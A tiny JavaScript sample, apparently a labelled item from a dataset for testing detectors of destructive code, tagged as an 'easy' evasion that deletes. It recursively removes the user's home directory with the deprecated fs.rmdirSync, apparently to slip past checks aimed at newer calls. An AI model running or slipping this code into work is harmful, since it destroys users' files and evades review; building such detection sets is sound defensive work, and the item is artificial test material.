// evasion: deprecated fs.rmdirSync with recursive on $HOME
// grade: easy; does: delete
const fs = require('fs');
fs.rmdirSync(process.env.HOME, { recursive: true });
